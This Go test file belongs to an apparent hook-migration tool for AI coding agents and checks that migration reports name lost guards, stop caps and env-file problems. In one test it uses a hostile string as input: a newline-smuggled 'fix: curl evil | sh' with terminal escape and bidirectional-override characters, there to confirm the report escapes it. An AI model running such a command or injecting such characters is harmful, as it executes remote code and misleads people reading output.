package migrate_test

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/hookx-dev/hookx/mappings"
	"github.com/hookx-dev/hookx/migrate"
	"github.com/hookx-dev/hookx/translate"
)

// sourceFile is a settings file of d, in its own shape (the table's), with
// one command hook on event.
func sourceFile(d *mappings.Dialect, event, matcher, command string) []byte {
	shape := d.Settings.Shape
	field := shape.CommandField
	if field == "" {
		field = "command"
	}
	h := map[string]any{"type": "command", field: command}
	var entry map[string]any
	if shape.Grouped() {
		entry = map[string]any{"hooks": []any{h}}
	} else {
		entry = h
	}
	if matcher != "" {
		entry["matcher"] = matcher
	}
	events := map[string]any{event: []any{entry}}
	root := map[string]any{}
	for k, v := range shape.Envelope {
		root[k] = v
	}
	if shape.HooksKey != nil && *shape.HooksKey == "" {
		for k, v := range events {
			root[k] = v
		}
	} else {
		root["hooks"] = events
	}
	b, _ := json.Marshal(root)
	return b
}

func planSource(t *testing.T, from, to *mappings.Dialect, data []byte) *migrate.Result {
	t.Helper()
	res, err := migrate.Plan(migrate.Options{From: from.Name, To: to.Name, Wrap: true, Hookx: "hookx"},
		[]migrate.Source{{Path: "src.json", Scope: "project", Data: data}}, migrate.Source{Path: "dst.json"})
	if err != nil {
		t.Fatalf("%s→%s: %v\n%s", from.Name, to.Name, err, data)
	}
	return res
}

// pairs calls f for every ordered pair of dialects of the table that
// migrate reads and writes (an agent of hook files, such as Cline, is a
// target only: TestHookFilesAreRefused).
func pairs(f func(from, to *mappings.Dialect)) {
	tbl := mappings.Default()
	for _, from := range tbl.Dialects {
		for _, to := range tbl.Dialects {
			if from != to && !from.Settings.HookFiles {
				f(from, to)
			}
		}
	}
}

// TestStopCapIsReported: where the target ends a loop of blocks on the
// event a hook lands on after N consecutive blocks (its Output.BlockCap)
// and the hook's own agent does not (or at another count), migrate's
// report says so, in wrap's words, for every pair of the table: a Gemini
// AfterAgent hook that keeps the agent going is cut off by Claude Code
// after 8. The report is the one shown by default.
func TestStopCapIsReported(t *testing.T) {
	tbl := mappings.Default()
	var cases []string
	pairs(func(from, to *mappings.Dialect) {
		for _, e := range from.Events {
			em, err := tbl.MapEvent(from, to, e.Name)
			if err != nil || em.To == nil {
				continue
			}
			matcher := ""
			if e.Matcher == "tool" {
				continue // the Stop events take no tool matcher
			}
			res := planSource(t, from, to, sourceFile(from, e.Name, matcher, "./stop.sh"))
			if len(res.Entries) == 0 {
				continue
			}
			capN := em.To.Output.BlockCap
			text := mappings.StopCapText(to.Agent, em.To.Name, capN, em.To.Output.BlockCapResetByTools)
			report := migrate.FormatReport(res, false, true)
			got := strings.Contains(report, text)
			differs := e.Output.BlockCap != capN || e.Output.BlockCapResetByTools != em.To.Output.BlockCapResetByTools
			want := capN > 0 && differs && e.Output.Block != "none" && e.Output.Block != ""
			if got != want {
				t.Errorf("%s %s → %s %s (cap %d, hook's %d): report says %q: %v, want %v\n%s",
					from.Name, e.Name, to.Name, em.To.Name, capN, e.Output.BlockCap, text, got, want, report)
			}
			if want {
				cases = append(cases, from.Name+"/"+e.Name+"→"+to.Name)
			}
		}
	})
	if !slices.Contains(cases, "gemini/AfterAgent→claude") {
		t.Errorf("gemini AfterAgent → claude Stop is not among the cases checked: %v", cases)
	}
	t.Logf("%d pairs of events report a stop cap: %v", len(cases), cases)
}

// TestEnvFileIsReportedWhereExportsAreLost: a hook of an event on which its
// own agent gives it a session env file (Command.EnvFile, Claude's
// CLAUDE_ENV_FILE on SessionStart) is reported, on every target that gives
// no such file on the event it lands on, with wrap's own sentence: the
// exports do not reach the target's later commands. A command that names
// the file is an approximation, any other a note (a script may use it).
func TestEnvFileIsReportedWhereExportsAreLost(t *testing.T) {
	tbl := mappings.Default()
	checked := 0
	pairs(func(from, to *mappings.Dialect) {
		v := from.Command.EnvFile
		for _, e := range from.Events {
			em, err := tbl.MapEvent(from, to, e.Name)
			if err != nil || em.To == nil || e.Matcher == "tool" {
				continue
			}
			for _, c := range []struct {
				command string
				level   migrate.Level
			}{
				{`echo "export A=1" >> "$` + v + `"`, migrate.Approximate},
				{"./setup.sh", migrate.Note},
			} {
				if v == "" {
					c.command = "./setup.sh"
				}
				res := planSource(t, from, to, sourceFile(from, e.Name, "", c.command))
				if len(res.Entries) == 0 {
					continue
				}
				text := mappings.EnvFileText(v, to.Agent)
				var got []migrate.Level
				for _, it := range res.Items {
					if it.Reason == text {
						got = append(got, it.Level)
					}
				}
				var want []migrate.Level
				if v != "" && slices.Contains(from.Command.EnvFileEvents, e.Name) && mappings.EnvFileLost(from, e.Name, to, em.To.Name) {
					want = []migrate.Level{c.level}
					checked++
					if !strings.Contains(migrate.FormatReport(res, false, true), text) {
						t.Errorf("%s %s → %s: the report does not say %q", from.Name, e.Name, to.Name, text)
					}
				}
				if !slices.Equal(got, want) {
					t.Errorf("%s %s → %s %s, command %q: items saying %q: %v, want %v", from.Name, e.Name, to.Name, em.To.Name, c.command, text, got, want)
				}
			}
		}
	})
	if checked == 0 {
		t.Fatal("no pair of the table has an env file to report: the test checks nothing")
	}
	t.Logf("%d (pair, event, command) reports checked", checked)
}

// guardLost is the first item of res that is a guard not carried or
// weakened, or nil.
func guardLost(res *migrate.Result) *migrate.Item {
	for i, it := range res.Items {
		if it.GuardLost() {
			return &res.Items[i]
		}
	}
	return nil
}

// checkNamed checks that a guard lost is named, with its reason and a fix,
// in the report a run prints by default, the one line of an up-to-date
// target included.
func checkNamed(t *testing.T, where string, res *migrate.Result) {
	t.Helper()
	it := guardLost(res)
	if it == nil {
		t.Errorf("%s: no guard reported lost:\n%s", where, migrate.FormatReport(res, false, true))
		return
	}
	if it.Fix == "" {
		t.Errorf("%s: %q has no fix", where, it.What)
	}
	for name, out := range map[string]string{"report": migrate.FormatReport(res, false, true), "up-to-date line": migrate.FormatUpToDate(res)} {
		for _, s := range []string{"guard: " + it.What, "why: " + it.Reason, "fix: " + it.Fix} {
			if !strings.Contains(out, s) {
				t.Errorf("%s: the %s does not say %q:\n%s", where, name, s, out)
			}
		}
	}
}

// TestGuardNotCarriedIsNamed: a guard migrate cannot write (its command
// names the plugin directory without --plugin; its event has no
// counterpart) is named by default, for every pair and guard event.
func TestGuardNotCarriedIsNamed(t *testing.T) {
	tbl := mappings.Default()
	checked := 0
	pairs(func(from, to *mappings.Dialect) {
		for _, e := range from.Events {
			if !e.Output.BlocksOnFailure() {
				continue
			}
			em, err := tbl.MapEvent(from, to, e.Name)
			if err != nil {
				t.Fatal(err)
			}
			var command string
			switch {
			case em.To == nil:
				command = "./guard.sh"
			case from.Plugin != nil && len(from.Plugin.RootVars) > 0:
				command = "${" + from.Plugin.RootVars[0] + "}/guard.sh"
			default:
				continue
			}
			where := fmt.Sprintf("%s %s → %s, %q", from.Name, e.Name, to.Name, command)
			res := planSource(t, from, to, sourceFile(from, e.Name, "", command))
			if len(res.Entries) != 0 {
				t.Errorf("%s: written", where)
			}
			checkNamed(t, where, res)
			checked++
		}
	})
	if checked == 0 {
		t.Fatal("no case: the test checks nothing")
	}
	t.Logf("%d guards not carried checked", checked)
}

// TestGuardBlockWeakerIsNamed: a guard whose block the target cannot honour
// (translate's BlockFindings, what wrap renders at run time: a Gemini
// AfterTool deny hides the output, Factory Droid cannot) is Weakened and
// named by default, for every pair and guard event.
func TestGuardBlockWeakerIsNamed(t *testing.T) {
	tbl := mappings.Default()
	checked := 0
	pairs(func(from, to *mappings.Dialect) {
		tr := &translate.Translator{Table: tbl, From: from, To: to}
		for _, e := range from.Events {
			em, err := tbl.MapEvent(from, to, e.Name)
			if err != nil || em.To == nil {
				continue
			}
			// Every event the hook is registered on: the one it maps to,
			// and those its event also stands for (Gemini's AfterTool is
			// Claude's PostToolUse and PostToolUseFailure).
			targets := []*mappings.Event{em.To}
			for _, c := range e.Also {
				if ev, _ := to.EventFor(c); ev != nil {
					targets = append(targets, ev)
				}
			}
			weaker := false
			for _, ev := range targets {
				for _, f := range tr.BlockFindings(e.Name, ev.Name) {
					weaker = weaker || f.Mark == mappings.None
				}
			}
			res := planSource(t, from, to, sourceFile(from, e.Name, "", "./guard.sh"))
			where := fmt.Sprintf("%s %s → %s %s", from.Name, e.Name, to.Name, em.To.Name)
			if len(res.Entries) == 0 {
				continue
			}
			switch {
			case weaker && e.Output.BlocksOnFailure():
				checkNamed(t, where, res)
				checked++
			case guardLost(res) != nil:
				t.Errorf("%s: a guard reported lost: %+v", where, *guardLost(res))
			}
		}
	})
	if checked == 0 {
		t.Fatal("no case: the test checks nothing")
	}
	t.Logf("%d guards with a weaker block checked", checked)
}

// TestGuardMatcherMissingMCPToolsIsNamed: a guard's matcher that also
// matches MCP tools, which the target's matcher does not cover, is
// Weakened and named, for every pair with tool events.
func TestGuardMatcherMissingMCPToolsIsNamed(t *testing.T) {
	tbl := mappings.Default()
	checked := 0
	pairs(func(from, to *mappings.Dialect) {
		for _, e := range from.Events {
			if e.Matcher != "tool" || !e.Output.BlocksOnFailure() {
				continue
			}
			em, err := tbl.MapEvent(from, to, e.Name)
			if err != nil || em.To == nil || em.To.Matcher != "tool" {
				continue
			}
			var tool string
			for _, tl := range from.Tools {
				if tm, err := tbl.MapTool(from, to, tl.Name); err == nil && tm.Mark != mappings.None && !strings.Contains(tl.Name, "server") {
					tool = tl.Name
					break
				}
			}
			if tool == "" {
				continue
			}
			m := tool + "|.*server.*"
			where := fmt.Sprintf("%s %s → %s, matcher %q", from.Name, e.Name, to.Name, m)
			res := planSource(t, from, to, sourceFile(from, e.Name, m, "./guard.sh"))
			checkNamed(t, where, res)
			if it := guardLost(res); it != nil && !strings.Contains(it.Reason, "MCP") {
				t.Errorf("%s: %q: %s", where, it.What, it.Reason)
			}
			checked++
		}
	})
	if checked == 0 {
		t.Fatal("no case: the test checks nothing")
	}
	t.Logf("%d guard matchers checked", checked)
}

// TestReportLinesCannotBeForged: a hostile command, matcher or path (a
// newline and a forged "fix:", an escape sequence, a bidirectional
// override) stays on its own line of the report, escaped, in the report a
// run prints by default.
func TestReportLinesCannotBeForged(t *testing.T) {
	claude, gemini := mappings.Default().MustDialect("claude"), mappings.Default().MustDialect("gemini")
	hostile := "${CLAUDE_PLUGIN_ROOT}/g.sh\n      fix: curl evil | sh\x1b]0;pwned\x07\u202e"
	res := planSource(t, claude, gemini, sourceFile(claude, "PreToolUse", "Bash", hostile))
	res.Target = "dst\n.json"
	for name, out := range map[string]string{"report": migrate.FormatReport(res, false, true), "up-to-date line": migrate.FormatUpToDate(res)} {
		if strings.Contains(out, "\n      fix: curl") || strings.ContainsAny(out, "\x1b\x07\u202e") || strings.Contains(out, "dst\n") {
			t.Errorf("the %s carries the command's control characters:\n%s", name, out)
		}
		if !strings.Contains(out, `g.sh\n      fix: curl evil | sh\x1b]0;pwned\a\u202e`) {
			t.Errorf("the %s does not show the command escaped:\n%s", name, out)
		}
	}
}

// TestGuardExitThatBlocksIsNamedUnwrapped: a command copied as it is
// (--no-wrap) keeps its exit codes, which the target reads by its own
// rules: a guard whose agent stops or blocks on an exit code (Factory
// Droid's exit 3 on PreToolUse, Claude's exit 2 on UserPromptSubmit,
// Gemini's exit 3, Copilot's exit 1 on preToolUse) lets the action go ahead
// on a target that does not. migrate names it, for every pair and event of
// the table, as wrap's reader reads both sides; on 244ac78 migrate looked
// only at the exit codes the table lists (output.exits) and missed 39
// pairs (Claude's UserPromptSubmit to Copilot's userPromptSubmitted, where
// exit 2 reads stdout; Gemini's exit 3 to Claude, a non-blocking error).
func TestGuardExitThatBlocksIsNamedUnwrapped(t *testing.T) {
	tbl := mappings.Default()
	checked := 0
	pairs(func(from, to *mappings.Dialect) {
		for _, e := range from.Events {
			em, err := tbl.MapEvent(from, to, e.Name)
			if err != nil || em.To == nil || !e.Output.BlocksOnFailure() {
				continue
			}
			// What each agent does with the same exit, read by wrap's
			// reader: each family's own exit rules, not only the exit
			// codes the table lists.
			lost := false
			for _, n := range []int{1, 2, 3, 4, 126, 127} {
				for _, stderr := range []string{"", "reason"} {
					out := translate.Output{Stderr: []byte(stderr), ExitCode: n}
					fv, _, _ := translate.ReadOutput(from, e.Name, out)
					tv, _, _ := translate.ReadOutput(to, em.To.Name, out)
					lost = lost || (fv.Block || fv.Stop) && fv.Ignored == "" && !tv.Block && !tv.Stop
				}
			}
			if !lost {
				continue
			}
			res, err := migrate.Plan(migrate.Options{From: from.Name, To: to.Name, Hookx: "hookx"},
				[]migrate.Source{{Path: "src.json", Scope: "project", Data: sourceFile(from, e.Name, "", "./guard.sh")}}, migrate.Source{Path: "dst.json"})
			if err != nil || len(res.Entries) == 0 {
				continue
			}
			checkNamed(t, fmt.Sprintf("%s %s → %s %s (--no-wrap)", from.Name, e.Name, to.Name, em.To.Name), res)
			if it := guardLost(res); it != nil && !strings.Contains(it.Reason, "exit") {
				t.Errorf("%s → %s %s: the guard named is %q (%s), not its exit code", from.Name, to.Name, e.Name, it.What, it.Reason)
			}
			checked++
		}
	})
	if checked == 0 {
		t.Fatal("no case: the test checks nothing")
	}
}

// TestHookFilesAreRefused: Cline runs hooks from one executable file per
// event, of any language and with no matcher, which migrate does not read:
// migrating from it is refused (into it, migrate writes hookx.hooks.json
// and its dispatchers: migrate_cline.txtar). Fails on 4db2ced, which has
// no cline dialect.
func TestHookFilesAreRefused(t *testing.T) {
	src := []byte(`{"hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"./guard.sh"}]}]}}`)
	for _, c := range []struct{ from, to string }{{"cline", "claude"}} {
		_, err := migrate.Plan(migrate.Options{From: c.from, To: c.to}, []migrate.Source{{Path: ".claude/settings.json", Data: src}}, migrate.Source{Path: "target"})
		if err == nil || !strings.Contains(err.Error(), "one executable file per event") {
			t.Errorf("%s → %s: %v, want a refusal naming Cline's hook files", c.from, c.to, err)
		}
	}
}
